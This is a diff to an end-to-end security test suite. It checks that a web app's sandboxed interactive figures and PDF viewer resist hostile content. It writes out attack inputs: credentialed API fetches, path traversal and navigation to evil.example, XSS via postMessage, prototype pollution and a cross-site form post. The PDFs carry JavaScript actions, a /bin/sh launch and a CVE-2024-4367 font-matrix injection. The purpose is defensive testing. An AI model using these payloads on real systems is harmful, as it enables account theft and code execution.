@@ -1,5 +1,6 @@
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, expect, test } from 'vitest';
+import { pdf } from '../src/pdf.ts';
 import { ask as askOn, base64, launch, newPage, setting, signIn } from './app.ts';
 
 const url = setting('PAGES_URL');
@@ -20,12 +21,32 @@ const HTML = `<!doctype html><title>frame</title><body><p id="ran">no</p><p id="
   const attempt = (what, act) => { try { if (act()) won(what); } catch {} };
   attempt('cookie', () => document.cookie !== '');
   attempt('parent', () => parent.document.title);
-  attempt('storage', () => localStorage.length >= 0);
+  attempt('storage', () => localStorage.length + sessionStorage.length > 0 || localStorage.getItem('app'));
+  attempt('database', () => { const request = indexedDB.open('app'); request.onsuccess = () => won('database opened'); });
+  attempt('worker of the app', () => { navigator.serviceWorker.register('${url}/sw.js').then(() => won('service worker'), () => {}); });
   attempt('popup', () => window.open('/account'));
   attempt('top', () => { top.location = 'https://evil.example/'; });
   alert(1);
   fetch('${url}/api/v1.4.1/user/', { credentials: 'include' }).then((answer) => answer.text()).then((text) => won('api ' + text), () => {});
   fetch('https://evil.example/', { mode: 'no-cors' }).then(() => won('network'), () => {});
+  fetch('${url}/runtimes/..%2fapi/v1.4.1/user/', { credentials: 'include' }).then((answer) => { if (answer.ok) won('runtimes'); }, () => {});
+  for (const path of ['/runtimes/../api/v1.4.1/user/', '/index.html', '/color-scheme.js'])
+    for (const mode of ['cors', 'no-cors'])
+      fetch('${url}' + path, { credentials: 'include', mode }).then((answer) => { if (answer.type === 'opaque' || answer.ok) won(path + ' ' + mode); }, () => {});
+  for (const path of ['/color-scheme.js', '/api/v1.4.1/user/']) {
+    const script = document.createElement('script'); script.onload = () => won('script ' + path); script.src = '${url}' + path; document.head.append(script);
+  }
+  const inner = "<script>const tell = (what) => parent.postMessage('won ' + what, '*'); try { if (document.cookie || localStorage.length) tell('inner storage'); } catch {} try { tell(top.document.title); } catch {} try { top.location = 'https://evil.example/'; } catch {} fetch('${url}/api/v1.4.1/user/', { credentials: 'include' }).then(() => tell('inner api'), () => {});<" + "/script>";
+  addEventListener('message', ({ data }) => { if (String(data).startsWith('won ')) won(data); });
+  for (const address of ['data:text/html,' + encodeURIComponent(inner), '${url}/account', 'https://evil.example/']) {
+    const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame);
+  }
+  document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: inner }));
+  const work = "fetch('${url}/api/v1.4.1/user/', { credentials: 'include' }).then(() => postMessage('api'), () => {}); try { importScripts('${url}/color-scheme.js'); postMessage('script'); } catch {}";
+  for (const address of ['data:text/javascript,' + encodeURIComponent(work), URL.createObjectURL(new Blob([work]))])
+    try { new Worker(address).onmessage = ({ data }) => won('worker ' + data); } catch {}
+  for (let n = 0; n < 500; n++) parent.postMessage({ gofigr: 'problem', kind: 'script', text: n + '<img src=x onerror="parent.taken()">'.repeat(50) }, '*');
+  parent.postMessage({ gofigr: 'problem', kind: '__proto__', text: 'x' }, '*');
 </script>
 <form action="${url}/api/v1.4.1/workspace/" method="post" target="_top"><input name="name" value="taken"></form>
 <script>try { document.forms[0].submit(); } catch {}</script></body>`;
@@ -116,12 +137,62 @@ test('published content never runs in the app, on any page that shows it', async
   }
 });
 
+const text = 'BT /F 24 Tf 10 100 Td (A) Tj ET';
+const action = `<< /S /JavaScript /JS (app.alert\\(1\\); ${ATTACK.replaceAll(/([()])/g, '\\\\$1')}) >>`;
+const page200 = (content: string) => [{ width: 200, height: 200, content }];
+const heavy = '0 0 m 200 200 l S '.repeat(50_000);
+
+/** PDF files that attack their reader. */
+const PDFS: Record<string, Buffer> = {
+  'scripts at opening, in fields and in pages': pdf(page200(text), {
+    catalog: `/OpenAction ${action} /AA << /WC ${action} /WS ${action} >> /Names << /JavaScript << /Names [(x) ${action}] >> >> /AcroForm << /Fields [6 0 R] /XFA (<script>${ATTACK}</script>) >>`,
+    extra: [
+      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 99 99] /AA << /F ${action} /K ${action} >> >>`,
+    ],
+  }),
+  'links, launches and files': pdf(page200(text), {
+    catalog:
+      '/OpenAction << /S /URI /URI (https://evil.example/?opened) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>',
+  }),
+  // As in CVE-2024-4367: the matrix became part of a function's source text.
+  'code in the matrix of a font': pdf(page200(text), {
+    font: `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 65 /LastChar 65 /Widths [600] /FontMatrix [0.1 0 0 0.1 0 (0\\); ${ATTACK.replaceAll(/([()])/g, '\\\\$1')}//)] >>`,
+  }),
+  'a page of enormous size': pdf([{ width: 900_000, height: 900_000, content: text }]),
+  'pages within themselves': pdf(page200(text), { kids: '2 0 R' }),
+  'very many lines': pdf(page200(heavy)),
+};
+
+test.each(Object.entries(PDFS))(
+  'a PDF with %s harms nothing',
+  async (name, bytes) => {
+    const one = (await ask('POST', 'figure/', { name, analysis })).api_id;
+    const image = { type: 'image', name: 'page', metadata: { format: 'pdf' }, data: bytes.toString('base64') };
+    await ask('POST', 'revision/', { figure: one, data: [image] });
+    await page.goto(`${url}/figure/${one}`);
+    const main = page.getByRole('main');
+    await main.locator('canvas[data-drawn]').or(main.getByText('This PDF is damaged')).waitFor();
+    await main.locator('[class*=stage]').click();
+    await page.keyboard.press('a');
+    expect(await traces()).toEqual([]);
+    expect(await main.locator('[class*=stage] :is(a, input, iframe, script, object, embed)').count()).toBe(0);
+    expect(new URL(page.url()).pathname).toBe(`/figure/${one}`);
+    // The page still answers.
+    await page.keyboard.press('?');
+    await page.getByRole('dialog').getByText('This help').waitFor();
+  },
+  120_000,
+);
+
 test('names are shown as plain text', async () => {
   await page.goto(`${url}/figure/${figure}`);
   expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe(NAME);
 });
 
-test('interactive figures run without access to the app or its user', async () => {
+test('interactive figures run without access to the app or its user [14.68]', async () => {
+  await page.evaluate(() =>
+    ['localStorage', 'sessionStorage'].forEach((name) => (window as any)[name].setItem('app', 'secret')),
+  );
   await page.goto(`${url}/figure/${figure}`);
   await page.getByText('page · Interactive', { exact: true }).click();
   const frame = page.getByRole('main').locator('iframe');
@@ -131,6 +202,12 @@ test('interactive figures run without access to the app or its user', async () =
   await page.waitForTimeout(1500);
   expect((await inside.locator('#won').innerText()).replace('network', '').trim()).toBe('');
   expect(await traces()).toEqual([]);
+  // The page wrote five hundred messages, which are plain text, and few.
+  const note = page.getByRole('main').locator('output', { hasText: 'The page in the sandbox reports' });
+  await note.waitFor();
+  expect(await note.getByRole('listitem').count()).toBeLessThanOrEqual(5);
+  expect((await note.innerText()).length).toBeLessThan(2500);
+  expect(await note.locator('img').count()).toBe(0);
   expect(new URL(page.url()).pathname).toBe(`/figure/${figure}`);
   const workspaces = await ask('GET', 'workspace/');
   expect(workspaces.map(({ name }: { name: string }) => name)).not.toContain('taken');
